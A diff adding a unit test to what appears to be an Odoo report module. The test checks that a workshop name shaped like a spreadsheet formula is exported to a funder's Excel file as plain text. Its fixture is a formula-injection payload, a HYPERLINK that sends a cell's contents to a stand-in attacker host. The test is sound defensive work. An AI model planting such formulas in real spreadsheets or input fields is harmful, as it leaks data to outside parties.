@@ -146,6 +146,22 @@ class TestImpactFigures(ImpactData, TransactionCase):
         communes = list(book["Communes"].iter_rows(values_only=True))
         self.assertEqual(communes[1][:2], ("Commune A", 2))
 
+    def test_funder_xlsx_keeps_user_text_as_text(self):
+        # a workshop named like a formula stays a name in the funder's Excel
+        hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Voir")'
+        self.workshop.name = hostile
+        report = self._report()
+        report.action_funder_xlsx()
+        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(report.file)))
+        cells = [
+            cell
+            for row in book["Workshops"].iter_rows()
+            for cell in row
+            if cell.value == hostile
+        ]
+        self.assertTrue(cells, "the workshop is listed")
+        self.assertEqual({cell.data_type for cell in cells}, {"s"})
+
     def test_reuse_certificate(self):
         html = (
             self.env["ir.actions.report"]
